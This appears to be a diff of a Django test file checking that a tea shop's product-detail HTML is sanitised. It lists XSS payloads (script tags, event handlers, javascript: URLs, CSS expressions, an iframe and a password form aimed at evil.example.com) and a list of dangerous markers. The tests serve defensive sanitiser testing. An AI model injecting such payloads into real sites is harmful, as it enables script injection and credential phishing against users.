@@ -16,17 +16,17 @@ pytestmark = pytest.mark.django_db
 
 ATTACKS = {
     "script": '<p>好茶</p><script>alert("xss")</script>',
-    "event handler": '<img src="/media/images/1/aa/x.jpg" onerror="alert(1)"><p onmouseover="alert(2)">好茶</p>',
+    "event handler": '<img src="/media/x.jpg" onerror="alert(1)"><p onmouseover="alert(2)">好茶</p>',
     "javascript url": '<a href="javascript:alert(1)">好茶</a><a href="JaVaScRiPt:alert(1)">好茶</a>',
     "entity-encoded javascript url": '<a href="&#106;avascript:alert(1)">好茶</a>',
     "iframe": '<iframe src="https://evil.example.com/"></iframe><p>好茶</p>',
-    "style expression": '<p style="width: expression(alert(1)); background: url(javascript:alert(2))">好茶</p>',
+    "style expression": '<p style="width: expression(alert(1)); color: url(javascript:alert(2))">好茶</p>',
     "style element": "<style>body { background: url(javascript:alert(1)) }</style><p>好茶</p>",
     "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg><p>好茶</p>',
     "data url image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
     "object and embed": '<object data="x.swf"></object><embed src="x.swf"><p>好茶</p>',
     "form": '<form action="https://evil.example.com/"><input name="password"></form><p>好茶</p>',
-    "broken markup": '<p>好茶<img src=x onerror=alert(1)//',
+    "broken markup": "<p>好茶<img src=x onerror=alert(1)//",
     "comment trick": "<!--<img src=x onerror=alert(1)>--><p>好茶</p>",
 }
 RUNNABLE = ["<script", "onerror", "onmouseover", "onload", "javascript:", "<iframe", "expression(", "<style",
@@ -84,14 +84,19 @@ def test_a_hostile_detail_renders_inert_in_the_console_and_the_shop(owner, make_
 def test_the_shop_shows_the_gallery_and_the_detail_with_its_pictures(make_product):
     product = make_product(
         "Tea",
-        images=["/media/images/1/aa/one.jpg", "https://cdn.example.com/two.jpg"],
-        detail_html='<h3>产地</h3><p>西湖<strong>龙井</strong></p><img src="/media/images/1/bb/three.jpg" alt="茶园">',
+        images=["/media/a/1.jpg", "https://cdn.example.com/two.jpg"],
+        detail_html='<h3>产地</h3><p>西湖<strong>龙井</strong></p><img src="/media/b/3.jpg" alt="茶园">',
     )
     html = Client().get(f"/shop/tea/p/{product.pk}/").content.decode()
 
     gallery = html[html.index('class="gallery"') : html.index("</div>", html.index('class="gallery"'))]
     assert gallery.count("<img") == 2
-    assert gallery.index("one.jpg") < gallery.index("two.jpg")
-    assert detail_of(html).split('<div class="prose">', 1)[1].strip().startswith(
-        '<h3>产地</h3><p>西湖<strong>龙井</strong></p><img src="/media/images/1/bb/three.jpg" alt="茶园">'
+    assert gallery.index("1.jpg") < gallery.index("two.jpg")
+    assert (
+        detail_of(html)
+        .split('<div class="prose">', 1)[1]
+        .strip()
+        .startswith(
+            '<h3>产地</h3><p>西湖<strong>龙井</strong></p><img src="/media/b/3.jpg" alt="茶园">'
+        )
     )
